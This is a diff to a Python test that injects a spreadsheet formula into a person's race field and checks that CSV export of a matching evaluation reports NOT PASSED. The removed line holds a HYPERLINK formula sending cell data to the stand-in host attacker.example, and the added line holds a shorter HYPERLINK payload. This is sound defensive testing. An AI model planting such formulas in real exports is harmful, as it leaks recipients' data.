@@ -338,7 +338,7 @@ def test_a_removed_person_is_never_a_candidate_again(people, requester) -> None:
 def test_evaluate_matching_command_writes_the_table(people, tmp_path) -> None:
     out = StringIO()
     target = tmp_path / "table.csv"
-    hostile = '=HYPERLINK("http://attacker.example/?x="&A1,"click")'
+    hostile = '=HYPERLINK("http://x.example","go")'  # within race's 40
     Person.objects.filter(pk=next(iter(people))).update(race=hostile)  # as a roster could hold it
     call_command("evaluate_matching", "--replicates", "30", "--output", str(target), stdout=out)
     assert "NOT PASSED" in out.getvalue()
